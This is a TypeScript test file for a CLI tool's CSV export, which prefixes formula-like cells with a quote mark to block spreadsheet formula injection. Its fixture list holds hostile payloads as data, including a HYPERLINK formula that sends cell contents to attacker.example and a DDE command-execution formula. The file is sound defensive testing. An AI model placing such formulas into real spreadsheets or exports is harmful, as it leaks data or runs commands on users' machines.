// CSV that a spreadsheet opens safely: a text cell beginning like a formula (=, +, -, @, tab,
// CR) is written with a quote mark before it, in a quoted field, as OWASP recommends; a number
// stays a number; --csv-raw writes every cell as it is. Read back with Python's csv module,
// the reader of a program that consumes the export.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csv } from '../src/export/text.js';
import { TABLE_MODEL, type Table } from '../src/export/tables.js';
import { cli } from './helpers.js';

const tmp = () => mkdtempSync(join(tmpdir(), 'aigc-csv-'));

// The records of a CSV file as Python's csv module reads them.
function python(file: string): string[][] {
  const r = spawnSync(
    'python3',
    [
      '-c',
      'import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))',
      file,
    ],
    { encoding: 'utf8' },
  );
  expect(r.stderr).toBe('');
  return JSON.parse(r.stdout);
}

// The formulas of the issue, and one for each spreadsheet's other trigger.
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-1+1',
  '=1+1, "quoted", and more',
];

const kbDir = tmp();
writeFileSync(
  join(kbDir, 'kb.yaml'),
  JSON.stringify({
    sources: [
      {
        id: 's1',
        kind: 'article',
        title: '=T',
        publisher: 'P',
        published: 2023,
        language: 'en',
        paragraphs: 'blank-line-blocks',
      },
    ],
    entities: FORMULAS.map((name, i) => ({ id: `e${i}`, type: 'company', name, aliases: [`-${i + 5}`] })),
    claims: [
      {
        id: 'c1',
        kind: 'figure',
        about: ['e0'],
        text: '@mention',
        measures: 'net',
        measure: 'other',
        value: { amount: -5, unit: 'USD' },
        source: 's1',
        paragraph: 1,
      },
      {
        id: 'c2',
        kind: 'figure',
        about: ['e1'],
        text: 'Plain.',
        measures: '+x',
        measure: 'other',
        value: { min: -2.5, max: 3 },
        source: 's1',
        paragraph: 2,
      },
    ],
  }),
);

async function exportCsv(...more: string[]): Promise<string> {
  const out = join(tmp(), 'csv');
  const r = await cli(['--kb', kbDir, 'export', '--format', 'csv', '--out', out, ...more]);
  expect(r.code, r.stderr).toBe(0);
  return out;
}
const column = (rows: string[][], name: string) => rows.slice(1).map((r) => r[rows[0].indexOf(name)]);

describe('export --format csv on a KB of formulas', () => {
  it('every text that begins like a formula is read back as that text after a quote mark', async () => {
    const out = await exportCsv();
    const entities = python(join(out, 'entities.csv'));
    expect(column(entities, 'name')).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(column(python(join(out, 'aliases.csv')), 'alias')).toEqual(FORMULAS.map((_, i) => `'-${i + 5}`));
    expect(column(python(join(out, 'sources.csv')), 'title')).toEqual(["'=T"]);
    const claims = python(join(out, 'claims.csv'));
    expect(column(claims, 'text')).toEqual(["'@mention", 'Plain.']);
    expect(column(claims, 'measures')).toEqual(['net', "'+x"]);
    // No text field in any file begins with a formula's first character (a number may be -5).
    for (const t of TABLE_MODEL) {
      const [head, ...rows] = python(join(out, `${t.name}.csv`));
      const text = t.columns.filter((c) => c.type === 'text' || c.type === 'boolean').map((c) => head.indexOf(c.name));
      for (const row of rows) for (const i of text) expect(row[i], `${t.name}.${head[i]}`).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('a number stays a number: -5 and -2.5 are written as they are', async () => {
    const out = await exportCsv();
    const claims = python(join(out, 'claims.csv'));
    expect(column(claims, 'value_amount')).toEqual(['-5', '']);
    expect(column(claims, 'value_min')).toEqual(['', '-2.5']);
    // As the file holds them: unquoted, as a spreadsheet reads a number.
    expect(readFileSync(join(out, 'claims.csv'), 'utf8')).toMatch(/,-5,/);
  });

  it('--csv-raw writes every cell exactly as the KB has it', async () => {
    const out = await exportCsv('--csv-raw');
    expect(column(python(join(out, 'entities.csv')), 'name')).toEqual(FORMULAS);
    expect(column(python(join(out, 'aliases.csv')), 'alias')).toEqual(FORMULAS.map((_, i) => `-${i + 5}`));
    expect(column(python(join(out, 'claims.csv')), 'text')).toEqual(['@mention', 'Plain.']);
  });

  it('--csv-raw with another format is a usage error', async () => {
    const r = await cli(['--kb', kbDir, 'export', '--format', 'jsonl', '--out', join(tmp(), 'j'), '--csv-raw']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^aigc: --csv-raw .*--format csv/);
  });
});

// The KB trims its texts, so a leading tab or CR reaches CSV only from elsewhere (the list
// commands' --format csv will write other cells): the writer itself is asked.
describe('csv(): a tab or CR first', () => {
  const table: Table = {
    name: 't',
    key: ['id'],
    columns: [
      { name: 'id', type: 'text' },
      { name: 'text', type: 'text' },
      { name: 'n', type: 'number' },
    ],
    rows: [
      ['a', '\t=1+1', -1],
      ['b', '\r=1+1', 0],
      ['c', '\r\n-2', 2],
      ['d', 'plain, "text"', null],
    ],
  };

  it('is neutralised like the others, and every cell reads back whole', () => {
    const file = join(tmp(), 't.csv');
    writeFileSync(file, csv(table));
    expect(python(file)).toEqual([
      ['id', 'text', 'n'],
      ['a', "'\t=1+1", '-1'],
      ['b', "'\r=1+1", '0'],
      ['c', "'\r\n-2", '2'],
      ['d', 'plain, "text"', ''],
    ]);
  });

  it('raw: as it is', () => {
    const file = join(tmp(), 't.csv');
    writeFileSync(file, csv(table, { raw: true }));
    expect(
      python(file)
        .slice(1)
        .map((r) => r[1]),
    ).toEqual(['\t=1+1', '\r=1+1', '\r\n-2', 'plain, "text"']);
  });
});
